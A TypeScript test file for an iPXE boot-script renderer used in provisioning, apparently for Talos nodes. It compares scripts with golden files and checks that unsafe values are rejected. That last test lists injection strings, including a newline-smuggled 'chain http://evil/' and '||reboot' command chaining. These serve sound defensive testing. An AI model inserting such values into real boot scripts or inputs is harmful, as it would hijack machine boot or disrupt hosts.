import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { test } from 'node:test';
import { DEFAULT_KERNEL_ARGS } from '../../src/boot/profiles.ts';
import { renderChainScript, renderHoldScript, renderInstallScript, renderLocalScript, UnsafeScriptValue } from '../../src/ipxe/scripts.ts';

const GOLDEN = new URL('../golden/', import.meta.url);
const BASE = 'http://192.0.2.10:8080';
const KERNEL = `${BASE}/assets/${'a'.repeat(64)}/vmlinuz-amd64`;
const INITRD = `${BASE}/assets/${'b'.repeat(64)}/initramfs-amd64.xz`;
const TOKEN = 'Q2hhbmdlLW1lLXRoaXMtaXMtbm90LWEtcmVhbC10b2s';

/** Compares with test/golden/<name>; UPDATE_GOLDEN=1 rewrites the file (review the diff before committing). */
function golden(name: string, actual: string): void {
  const file = new URL(name, GOLDEN);
  if (process.env.UPDATE_GOLDEN === '1') writeFileSync(file, actual);
  assert.equal(actual, readFileSync(file, 'utf8'), `${name} differs from its golden file`);
}

const cases: [string, () => string][] = [
  ['chain.ipxe', () => renderChainScript(BASE, 30)],
  ['install-bios.ipxe', () => renderInstallScript({ base: BASE, machineId: 'm-abcdefghjkmn', profile: 'worker', kernelUrl: KERNEL, initrdUrl: INITRD, kernelArgs: DEFAULT_KERNEL_ARGS, configUrl: `${BASE}/config/${TOKEN}`, efi: false, retries: 3 })],
  ['install-efi.ipxe', () => renderInstallScript({ base: BASE, machineId: 'm-abcdefghjkmn', profile: 'worker', kernelUrl: KERNEL, initrdUrl: INITRD, kernelArgs: DEFAULT_KERNEL_ARGS, configUrl: `${BASE}/config/${TOKEN}`, efi: true, retries: 3 })],
  ['maintenance-efi.ipxe', () => renderInstallScript({ base: BASE, machineId: 'm-abcdefghjkmn', profile: 'worker', kernelUrl: KERNEL, initrdUrl: INITRD, kernelArgs: DEFAULT_KERNEL_ARGS, efi: true, retries: 3 })],
  ['hold.ipxe', () => renderHoldScript(BASE, 'm-abcdefghjkmn waits for an operator: heph machines accept m-abcdefghjkmn', 30)],
  ['local-exit.ipxe', () => renderLocalScript('exit')],
  ['local-exit1.ipxe', () => renderLocalScript('exit1')],
  ['local-sanboot.ipxe', () => renderLocalScript('sanboot')],
];
for (const [name, render] of cases) test(`golden: ${name}`, () => golden(name, render()));

test('every script starts with #!ipxe and ends with a newline; only install carries a config URL', () => {
  for (const [name, render] of cases) {
    const s = render();
    assert.ok(s.startsWith('#!ipxe\n'), name);
    assert.ok(s.endsWith('\n'), name);
    assert.equal(s.includes('talos.config='), name.startsWith('install'), name);
  }
});

test('EFI installs name the initrd on the command line, BIOS ones do not', () => {
  const efi = cases.find((c) => c[0] === 'install-efi.ipxe')![1]();
  const bios = cases.find((c) => c[0] === 'install-bios.ipxe')![1]();
  assert.match(efi, /^kernel --name vmlinuz \S+ .* initrd=initramfs\.xz talos\.config=/m);
  assert.doesNotMatch(bios, /initrd=initramfs/);
  assert.match(efi, /^initrd --name initramfs\.xz /m);
});

test('values iPXE would interpret are refused, never rendered', () => {
  const evil = ['a\nchain http://evil/', 'x ${net0/ip}', 'a||reboot', 'a&&reboot', 'a b', '#!ipxe', 'a\rb', "it's"];
  const good = { base: BASE, machineId: 'm-x', profile: 'p', kernelUrl: KERNEL, initrdUrl: INITRD, kernelArgs: ['talos.platform=metal'], efi: false, retries: 3 };
  for (const v of evil) {
    assert.throws(() => renderInstallScript({ ...good, kernelArgs: [v] }), UnsafeScriptValue, JSON.stringify(v));
    assert.throws(() => renderInstallScript({ ...good, machineId: v }), UnsafeScriptValue, JSON.stringify(v));
    assert.throws(() => renderInstallScript({ ...good, kernelUrl: v }), UnsafeScriptValue, JSON.stringify(v));
    assert.throws(() => renderChainScript(v, 30), UnsafeScriptValue, JSON.stringify(v));
    if (v !== 'a b') assert.throws(() => renderHoldScript(BASE, v, 30), UnsafeScriptValue, JSON.stringify(v));
  }
});
